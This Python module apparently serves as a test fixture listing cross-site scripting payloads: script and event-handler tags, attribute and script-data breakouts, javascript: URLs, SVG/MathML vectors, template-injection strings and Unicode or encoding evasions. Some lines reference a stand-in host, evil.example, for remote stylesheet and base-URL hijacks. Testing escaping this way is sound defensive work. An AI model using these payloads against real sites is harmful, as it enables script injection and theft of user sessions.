"""Texts that are an attack where a page takes them for more than text.

Each would set ``window.__xss``, open a dialog, or leave an element ``xss-mark`` or an attribute that begins with
``on`` in the page; shown as text it does none of it. They come from what is known to get past escaping that is nearly
right: HTML, attributes of either quote or none, URLs, SVG and MathML, data in scripts, templates, odd characters.
"""

from collections.abc import Iterable
from typing import Final

_DO: Final = "window.__xss=1"

HTML: Final = (
    f"<script>{_DO}</script>",
    f"<ScRiPt >{_DO}</sCrIpT >",
    f"<script>{_DO}//",
    f"<script/x>{_DO}</script/x>",
    f"<<script>{_DO}//<</script>",
    f"<img src=x onerror={_DO}>",
    f"<img src=x onerror={_DO} x",
    f"<img/src=`x`/onerror={_DO}>",
    f"<body onload={_DO}>",
    f"<details open ontoggle={_DO}><xss-mark>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<marquee onstart={_DO}>",
    f"<dialog open onfocus={_DO} autofocus><xss-mark>",
    f"<object data=javascript:{_DO}>",
    f"<embed src=javascript:{_DO}>",
    f"<iframe src=javascript:{_DO}>",
    f"<iframe srcdoc='<script>parent.{_DO.removeprefix('window.')}</script>'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_DO}'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    f"<form action=javascript:{_DO}><xss-mark><button>x",
    "<form id=csrf><input name=csrf_token value=x><xss-mark></form>",
    "</title><xss-mark>",
    "</textarea><xss-mark>",
    "</option></select><xss-mark>",
    "</pre></details></main><xss-mark>",
    "--><xss-mark><!--",
    "]]><xss-mark>",
    "<plaintext><xss-mark>",
    "<noscript><p title='</noscript><xss-mark>'>",
)
ATTRIBUTES: Final = (
    f'" onmouseover={_DO} x="',
    f"' onmouseover={_DO} x='",
    f"x onmouseover={_DO} y=",
    f'" autofocus onfocus={_DO} x="',
    '"><xss-mark>',
    "'><xss-mark>",
    "`><xss-mark>",
    f'" style="background:url(javascript:{_DO})',
)
URLS: Final = (
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f"java\tscript:{_DO}",
    f" javascript:{_DO}",
    f"javascript://evil.example/%0a{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    f"vbscript:{_DO}",
    "//evil.example/x",
)
SVG: Final = (
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><a xlink:href=javascript:{_DO}><xss-mark></a></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_DO}></mtext></math>",
    f"<svg><foreignObject><body onload={_DO}></foreignObject></svg>",
)
DATA: Final = (
    f"</script><script>{_DO}</script>",
    f'"}}</script><script>{_DO}</script>',
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    f'";{_DO};//',
    f"${{{_DO}}}",
    f"`;{_DO};`",
    f"'-({_DO})-'",
    f"<!--<script>{_DO}</script>",
)
TEMPLATES: Final = (
    "{{ 7*7 }}<xss-mark>",
    "{{ frame.csrf }}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}<xss-mark>{% endraw %}",
    "{# <xss-mark> #}",
    "{{ '<xss-mark>' | safe }}",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    "[[ 7*7 ]]<xss-mark>",
)
ODD: Final = (
    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
    f"\u202e<xss-mark>\u202c{_DO}",
    f"\u2028<script>{_DO}</script>\u2029",
    f"\ufeff<script>{_DO}</script>",
    f"<scr\u200bipt>{_DO}</script><xss-mark>",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    f"&lt;script&gt;{_DO}&lt;/script&gt;<xss-mark>",
    f"&#60;img src=x onerror={_DO}&#62;",
    f"<img src=x onerror\u00a0={_DO}>",
    f"<İmg src=x onerror={_DO}>",
)
PAYLOADS: Final = (*HTML, *ATTRIBUTES, *URLS, *SVG, *DATA, *TEMPLATES, *ODD)
# In one line, and printable: what names of people may be.
IN_NAMES: Final = tuple(one.strip() for one in PAYLOADS if one.strip().isprintable())
EVERYTHING: Final = "\n".join(PAYLOADS)


def bundled(texts: Iterable[str], most: int) -> list[str]:
    """Return texts of at most so many characters that hold all of them: as few rows as it takes."""
    found = [""]
    for text in texts:
        joined = f"{found[-1]} {text}" if found[-1] else text
        if len(joined) <= most:
            found[-1] = joined
        else:
            found.append(text)
    return found
